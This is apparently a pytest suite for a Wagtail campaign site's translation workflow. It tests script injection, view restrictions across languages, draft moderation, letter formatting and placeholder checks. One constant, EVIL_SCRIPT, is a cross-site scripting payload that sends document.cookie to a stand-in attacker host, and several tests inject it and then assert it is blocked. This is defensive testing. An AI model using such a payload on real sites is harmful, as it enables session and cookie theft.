"""One workflow across languages and roles (issue 28, findings 1-5): a translation made in
wagtail-localize's editor carries no script its translator put there, is as private as the
campaign, is a draft until someone who may publish publishes it, keeps the letter's
paragraphs and its placeholders' check."""

import json
from html import escape
from urllib.parse import urlencode

import pytest
from django.contrib.auth.models import Group
from django.core import mail
from django.urls import reverse
from wagtail.models import Locale, PageViewRestriction, WorkflowState

from campaigns.models import CampaignPage
from cms.base.models import OrganisationSettings
from signatures.models import Signature
from signatures.services import signing
from tests.factories import SUPPORTER as DETAILS
from tests.factories import CampaignPageFactory, TargetFactory, translate
from tests.moderation.conftest import make_user

pytestmark = [pytest.mark.postgres, pytest.mark.django_db]

SOURCE_SCRIPT = '<script src="https://stats.example.org/approved.js"></script>'
EVIL_SCRIPT = "<script>fetch('https://collect.attacker.example/?'+document.cookie)</script>"
LETTER = "Dear Minister,\n\nMy name is {first_name} {last_name}.\n\nPlease release them."


@pytest.fixture
def english(site):
    target = TargetFactory(salutation="M.", name="Ministre de l'Eau", email="ministre@eau.example")
    return CampaignPageFactory(
        parent=site.root_page,
        title="Free the Lakeside Four",
        message_body=LETTER,
        head_scripts=SOURCE_SCRIPT,
        targets=[target],
    )


@pytest.fixture
def french_locale(db):
    return Locale.objects.get_or_create(language_code="fr")[0]


@pytest.fixture
def superuser(db):
    return make_user("root", superuser=True)


@pytest.fixture
def page_moderator(db):
    """Wagtail's Moderators: they edit and publish every page, without the scripts
    permission."""
    user = make_user("pat", "Moderators")
    assert not user.has_perm("cms.edit_scripts")
    return user


@pytest.fixture(autouse=True)
def after_commit(django_capture_on_commit_callbacks):
    """wagtail-localize publishes after the commit: run what waits for it, as it happens."""

    def run(action):
        with django_capture_on_commit_callbacks(execute=True):
            return action()

    return run


@pytest.fixture
def editor(db):
    return make_user("eddie", "Editors")


def translate_this_page(client, page, locale, after_commit):
    """The page's "Translate this page" action, one language ticked."""
    url = reverse("wagtail_localize:submit_page_translation", args=[page.pk])
    response = after_commit(lambda: client.post(url, {"locales": [locale.pk]}))
    assert response.status_code == 302, response.content.decode()[:500]
    from wagtail_localize.models import Translation

    return Translation.objects.get(source__object_id=page.translation_key, target_locale=locale)


def segments(translation, path_prefix=""):
    from wagtail_localize.models import StringSegment

    return [
        segment
        for segment in StringSegment.objects.filter(source=translation.source)
        .select_related("string", "context")
        .order_by("order")
        if segment.context.path.startswith(path_prefix)
    ]


def write_segment(client, translation, segment, text):
    """What the translation editor sends when a translator saves one segment."""
    url = reverse(
        "wagtail_localize:edit_string_translation",
        kwargs={"translation_id": translation.pk, "string_segment_id": segment.pk},
    )
    return client.put(
        url, urlencode({"value": text}), content_type="application/x-www-form-urlencoded"
    )


def publish_in_editor(client, translation, after_commit):
    """The translation editor's "Publish in French"."""
    target = translation.get_target_instance()
    url = reverse("wagtailadmin_pages:edit", args=[target.pk])
    return after_commit(lambda: client.post(url, {"action": "publish"}))


def french_page(english):
    return CampaignPage.objects.get(
        translation_key=english.translation_key, locale__language_code="fr"
    )


# Finding 1: scripts follow the source; only the scripts permission changes them.


def test_a_page_moderator_cannot_put_a_script_on_the_french_page_through_the_translation(
    client, after_commit, english, french_locale, superuser, page_moderator
):
    from wagtail_localize.models import OverridableSegment

    client.force_login(superuser)
    translation = translate_this_page(client, english, french_locale, after_commit)

    client.force_login(page_moderator)
    script_segments = [s for s in segments(translation) if "script" in s.context.path]
    for segment in script_segments:  # what the editor offered them: a script to replace
        # Written as wagtail-localize keeps a plain-text segment (its source's too): HTML,
        # so "<" is "&lt;". Raw tags it would flag as an error and leave out of the page.
        written = write_segment(client, translation, segment, escape(EVIL_SCRIPT, quote=False))
        assert written.status_code in (200, 201) and written.json()["error"] is None
    overrides = OverridableSegment.objects.filter(
        source=translation.source, context__path__contains="script"
    )
    for override in overrides:
        client.put(
            reverse(
                "wagtail_localize:edit_override",
                kwargs={"translation_id": translation.pk, "overridable_segment_id": override.pk},
            ),
            urlencode({"value": EVIL_SCRIPT}),
            content_type="application/x-www-form-urlencoded",
        )
    assert publish_in_editor(client, translation, after_commit).status_code == 302

    french = french_page(english)
    html = client.get(french.url).content.decode()
    api = client.get(f"/api/v3/campaigns/{french.pk}/").content.decode()
    assert "collect.attacker.example" not in html + api + french.head_scripts
    assert SOURCE_SCRIPT in html  # the source's script, as on the English page
    assert script_segments == [] and not overrides.exists()  # nothing to translate


def test_a_translation_with_other_scripts_serves_its_sources_and_a_sync_copies_them(
    client, english, french_locale, superuser
):
    french = translate(english, "fr", title="Libérez les quatre")
    # A translation made before scripts followed the source, with a script of its own.
    CampaignPage.objects.filter(pk=french.pk).update(body_scripts=EVIL_SCRIPT)

    html = client.get(french.url).content.decode()
    assert "collect.attacker.example" not in html
    assert SOURCE_SCRIPT in html

    # The source's scripts change (by someone who may): a sync copies them to the translation.
    from wagtail_localize.models import TranslationSource

    english.head_scripts = '<script src="https://stats.example.org/v2.js"></script>'
    english.save_revision().publish()
    source, _created = TranslationSource.get_or_create_from_instance(english)
    source.update_from_db()
    source.create_or_update_translation(french_locale, fallback=True)
    french.refresh_from_db()
    assert french.head_scripts == english.head_scripts
    assert "v2.js" in client.get(french.url).content.decode()


def test_site_wide_scripts_are_the_same_on_every_languages_page(client, english, site):
    settings = OrganisationSettings.for_site(site)
    settings.head_scripts = '<script src="https://stats.example.org/site.js"></script>'
    settings.save()
    french = translate(english, "fr", title="Libérez les quatre")

    for page in (english, french):
        assert settings.head_scripts in client.get(page.url).content.decode()


# Finding 2: a restriction anywhere covers the campaign in every language.


def restrict(page, restriction_type):
    restriction = PageViewRestriction.objects.create(
        page=page, restriction_type=restriction_type, password="open sesame"
    )
    if restriction_type == PageViewRestriction.GROUPS:
        restriction.groups.add(Group.objects.get(name="Moderators"))
    return restriction


@pytest.mark.parametrize(
    "restricted", ["english page", "french page", "french index", "english index"]
)
@pytest.mark.parametrize(
    "restriction_type",
    [PageViewRestriction.PASSWORD, PageViewRestriction.LOGIN, PageViewRestriction.GROUPS],
)
def test_a_restriction_on_any_page_of_a_campaign_covers_it_in_every_language(
    client, english, restricted, restriction_type
):
    french = translate(english, "fr", title="Libérez les quatre", lead="Un chapeau secret.")
    english.counter_offset = 7_771
    english.save_revision().publish()
    page = {
        "english page": english,
        "french page": french,
        "french index": french.get_parent(),
        "english index": english.get_parent(),
    }[restricted]
    restrict(page, restriction_type)

    for campaign in (english, french):
        html = client.get(campaign.url).content.decode()
        assert campaign.lead not in html and "7,771" not in html
        assert client.get(f"/api/v3/campaigns/{campaign.pk}/").status_code == 404
        assert client.get(f"/api/v3/campaigns/{campaign.pk}/counter/").status_code == 404
        # The embedded form asks the API for the targets too.
        assert client.get(f"/api/v3/campaigns/{campaign.pk}/targets/").status_code == 404
        form = client.post(reverse("signatures:sign", args=[campaign.pk]), DETAILS)
        assert form.status_code == 303  # to the page, which asks for the password or login
        api = client.post(
            f"/api/v3/campaigns/{campaign.pk}/signatures/",
            json.dumps(DETAILS),
            content_type="application/json",
        )
        assert api.status_code == 404
    listed = [item["id"] for item in client.get("/api/v3/campaigns/").json()["items"]]
    index = client.get(french.get_parent().url).content.decode()
    assert {english.pk, french.pk} & set(listed) == set()
    pages = [item["id"] for item in client.get("/api/v3/pages/?limit=20").json()["items"]]
    assert {english.pk, french.pk} & set(pages) == set()
    assert "Libérez les quatre" not in index
    assert not Signature.objects.exists()


def test_lifting_a_restriction_lifts_it_in_every_language(client, english):
    french = translate(english, "fr", title="Libérez les quatre", lead="Un chapeau secret.")
    restriction = restrict(french, PageViewRestriction.GROUPS)
    assert list(english.view_restrictions.values_list("groups__name", flat=True)) == ["Moderators"]

    restriction.delete()

    assert not PageViewRestriction.objects.exists()
    assert french.lead in client.get(french.url).content.decode()


@pytest.mark.parametrize("copied_by_a_sync", [False, True])
def test_the_password_of_the_english_page_opens_the_french_one(client, english, copied_by_a_sync):
    french = translate(english, "fr", title="Libérez les quatre", lead="Un chapeau secret.")
    restriction = restrict(english, PageViewRestriction.PASSWORD)
    if copied_by_a_sync:  # wagtail-localize copies the source's restriction when it syncs
        from wagtail_localize.models import TranslationSource

        source, _created = TranslationSource.get_or_create_from_instance(english)
        source.sync_view_restrictions(english, french)
        assert french.view_restrictions.exists()

    asked = client.get(french.url)
    assert french.lead not in asked.content.decode()
    passed = client.post(
        reverse("wagtailcore_authenticate_with_password", args=[restriction.pk, french.pk]),
        {"password": "open sesame", "return_url": french.url},
    )
    assert passed.status_code == 302
    assert french.lead in client.get(french.url).content.decode()
    assert client.post(reverse("signatures:sign", args=[french.pk]), DETAILS).status_code == 302
    assert Signature.objects.get().page_language == "fr"


# Finding 3: "Translate this page" makes a draft; an Editor submits it for moderation.


def test_translate_this_page_makes_a_draft_that_an_editor_submits_and_a_moderator_publishes(
    client, after_commit, english, french_locale, editor, page_moderator
):
    client.force_login(editor)
    translation = translate_this_page(client, english, french_locale, after_commit)
    [title] = segments(translation, "title")
    write_segment(client, translation, title, "Libérez les quatre")

    french = french_page(english)
    client.logout()
    assert not french.live
    assert client.get(french.url).status_code == 404
    assert client.get("/api/v3/campaigns/?locale=fr").json()["items"] == []
    assert 'hreflang="fr"' not in client.get(english.url).content.decode()
    assert "Free the Lakeside Four" not in client.get(french.get_parent().url).content.decode()

    client.force_login(editor)
    editor_page = client.get(reverse("wagtailadmin_pages:edit", args=[french.pk]))
    submit_url = reverse("translation_submit", args=[french.pk])
    assert f'action="{submit_url}"' in editor_page.content.decode()  # in the translation editor
    submitted = client.post(submit_url)
    assert submitted.status_code == 302
    state = WorkflowState.objects.get(base_content_type__model="page", object_id=str(french.pk))
    assert state.status == WorkflowState.STATUS_IN_PROGRESS
    french.refresh_from_db()
    assert not french.live and french.get_latest_revision().as_object().title == (
        "Libérez les quatre"
    )
    refused = publish_in_editor(client, translation, after_commit)  # Editors do not publish
    assert refused["Location"] == "/admin/"  # Wagtail's answer to a permission denied
    french.refresh_from_db()
    assert not french.live

    client.force_login(page_moderator)
    task_state = state.current_task_state
    approve = reverse(
        "wagtailadmin_pages:workflow_action", args=[french.pk, "approve", task_state.pk]
    )
    approved = after_commit(lambda: client.post(approve, {"comment": ""}))
    assert approved.status_code in (200, 302)
    client.logout()
    french.refresh_from_db()
    assert french.live and french.title == "Libérez les quatre"
    assert client.get(french.url).status_code == 200
    assert 'hreflang="fr"' in client.get(english.url).content.decode()


def test_who_may_not_edit_the_translation_may_not_submit_it(
    client, after_commit, english, french_locale, superuser
):
    client.force_login(superuser)
    translate_this_page(client, english, french_locale, after_commit)
    french = french_page(english)
    client.force_login(make_user("nobody", "Signature moderators"))

    refused = client.post(reverse("translation_submit", args=[french.pk]))

    assert refused["Location"] == "/admin/"  # Wagtail's answer to a permission denied
    assert not WorkflowState.objects.exists()


def test_an_editor_cannot_publish_a_draft_translation_by_syncing_it(
    client, after_commit, english, french_locale, editor, page_moderator
):
    """wagtail-localize's "Sync translated pages", with "Publish immediately", publishes every
    translation as whoever asks, needing only its translate permission, which Editors hold."""
    client.force_login(editor)
    translation = translate_this_page(client, english, french_locale, after_commit)
    url = reverse("wagtail_localize:update_translations", args=[translation.source.pk])

    refused = after_commit(lambda: client.post(url, {"publish_translations": "on"}))

    assert refused.status_code == 403
    french = french_page(english)
    assert not french.live
    assert client.get(french.url).status_code == 404
    # Without publishing, an Editor syncs as before: the translation stays a draft.
    assert "You may not publish these translations" in client.get(url).content.decode()
    synced = after_commit(lambda: client.post(url, {}))
    assert synced.status_code == 302
    french.refresh_from_db()
    assert not french.live
    # A Moderator, who may publish it, still publishes it from there.
    client.force_login(page_moderator)
    assert "You may not publish" not in client.get(url).content.decode()
    assert after_commit(lambda: client.post(url, {"publish_translations": "on"})).status_code == 302
    french.refresh_from_db()
    assert french.live


def test_an_editor_cannot_put_a_draft_translation_live_as_an_alias(
    client, after_commit, english, french_locale, editor, page_moderator
):
    """wagtail-localize's "Convert to alias page" gives the page its source's content and
    live status, as whoever may edit it: the draft French page went live in English."""
    client.force_login(editor)
    translation = translate_this_page(client, english, french_locale, after_commit)
    french = french_page(english)
    url = reverse("wagtail_localize:convert_to_alias", args=[french.pk])
    # Offered in the page's editor once the translation is stopped; not to an Editor.
    client.post(reverse("wagtail_localize:stop_translation", args=[translation.pk]))
    edit = reverse("wagtailadmin_pages:edit", args=[french.pk])
    assert "Convert to alias page" not in client.get(edit).content.decode()

    refused = after_commit(lambda: client.post(url))

    assert refused.status_code == 403
    french.refresh_from_db()
    assert not french.live and french.alias_of_id is None
    assert client.get(url).status_code == 403  # nor is offered the confirmation
    client.logout()
    assert client.get(french.url).status_code == 404
    client.force_login(page_moderator)  # who may publish it may make it an alias
    assert "Convert to alias page" in client.get(edit).content.decode()
    assert after_commit(lambda: client.post(url)).status_code == 302
    french.refresh_from_db()
    assert french.alias_of_id == english.pk and french.live


# Finding 4: the letter keeps its paragraphs.


def test_translators_get_the_letter_as_plain_lines_and_the_target_the_paragraphs(
    client, after_commit, english, french_locale, superuser, django_capture_on_commit_callbacks
):
    client.force_login(superuser)
    translation = translate_this_page(client, english, french_locale, after_commit)
    letter = segments(translation, "message_body")

    assert [segment.string.data for segment in letter] == [
        "Dear Minister,",
        "My name is {first_name} {last_name}.",
        "Please release them.",
    ]
    french_lines = [
        "Monsieur le Ministre,",
        "Je m'appelle {first_name} {last_name}.",
        "Libérez-les, je vous prie.",
    ]
    for segment, text in zip(letter, french_lines, strict=True):
        assert write_segment(client, translation, segment, text).json()["error"] is None
    assert publish_in_editor(client, translation, after_commit).status_code == 302

    french = french_page(english)
    assert french.message_body == "\n\n".join(french_lines)
    with django_capture_on_commit_callbacks(execute=True):
        signing.record_signature(french, DETAILS)
    [sent] = [message for message in mail.outbox if "ministre@eau.example" in message.to[0]]
    assert sent.body.startswith(
        "Monsieur le Ministre,\n\nJe m'appelle Ana Okonjo.\n\nLibérez-les, je vous prie."
    )


# Finding 5: the placeholders' check in every language.


def test_an_unknown_placeholder_in_a_translation_is_refused_when_written_and_never_published(
    client, after_commit, english, french_locale, superuser
):
    client.force_login(superuser)
    translation = translate_this_page(client, english, french_locale, after_commit)
    segment = next(
        s for s in segments(translation, "message_body") if "{first_name}" in s.string.data
    )

    answer = write_segment(client, translation, segment, "Je m'appelle {prenom} {last_name}.")
    assert "{prenom}" in (answer.json()["error"] or "")
    publish_in_editor(client, translation, after_commit)

    french = french_page(english)
    assert "{prenom}" not in french.message_body
    assert "{prenom}" not in (french.get_latest_revision().as_object().message_body)


def test_a_translation_saved_with_an_unknown_placeholder_is_refused(english):
    from django.core.exceptions import ValidationError

    french = translate(english, "fr", title="Libérez les quatre")
    french.message_subject = "Libérez-les, {prenom}"
    with pytest.raises(ValidationError) as refused:
        french.save_revision()
    assert "{prenom}" in str(refused.value.message_dict["message_subject"])


@pytest.mark.django_db(transaction=True)
def test_the_migration_gives_each_translation_its_sources_scripts(site, migrate_to):
    english = CampaignPageFactory(parent=site.root_page, head_scripts=SOURCE_SCRIPT)
    french = translate(english, "fr", title="Eau")
    other = CampaignPageFactory(parent=site.root_page, body_scripts="<script>own()</script>")
    old_apps = migrate_to([("campaigns", "0013_i34_story_block_labels_capitalised")])
    old_apps.get_model("campaigns", "CampaignPage").objects.filter(pk=french.pk).update(
        head_scripts=EVIL_SCRIPT, body_scripts=EVIL_SCRIPT
    )

    migrate_to([("campaigns", "0014_i28a_scripts_follow_the_source")])
    migrate_to()

    french.refresh_from_db()
    assert (french.head_scripts, french.body_scripts) == (SOURCE_SCRIPT, "")
    assert CampaignPage.objects.get(pk=other.pk).body_scripts == "<script>own()</script>"
